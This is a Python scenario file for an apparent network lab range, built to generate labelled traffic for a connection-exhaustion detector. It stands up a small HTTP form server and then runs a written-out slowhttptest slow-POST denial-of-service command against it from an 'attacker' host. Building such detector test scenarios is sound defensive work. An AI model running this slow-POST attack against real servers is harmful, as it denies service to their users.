"""Slow POST by slowhttptest."""

from lab.namespaces import listens, wait_for
from lab.range import Range
from lab.scenario import Scenario

FORMS = """
import http.server
class Form(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"])); self.do_GET()
http.server.ThreadingHTTPServer.request_queue_size = 128
http.server.ThreadingHTTPServer(("", 8080), Form).serve_forever()
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    forms = net.inside("forms")
    forms.start("/usr/bin/python3", "-c", FORMS)
    wait_for("the server of forms", listens(forms, 8080))
    net.everyday()
    net.loop(net.hosts["pc2"], f"curl -s -m 3 -o /dev/null -d name=a http://{forms.ip}:8080/", 1.1)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[forms],
        frames=f"tcp and dst host {forms.ip} and dst port 8080",
        responses=f"tcp and src host {forms.ip} and dst host {attacker.ip}",
    ):
        net.tool(
            attacker,
            *f"slowhttptest -c 45 -B -i 6 -s 8192 -r 20 -l 42 -t POST -x 10 -p 3 -u http://{forms.ip}:8080/".split(),
            seconds=44,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-slow-post",
    about="slowhttptest -B holds 45 connections to a server of forms, a few octets every 6 seconds each.",
    detectors=("connection-exhaustion",),
    tools={"slowhttptest": "slowhttptest"},
    run=run,
)
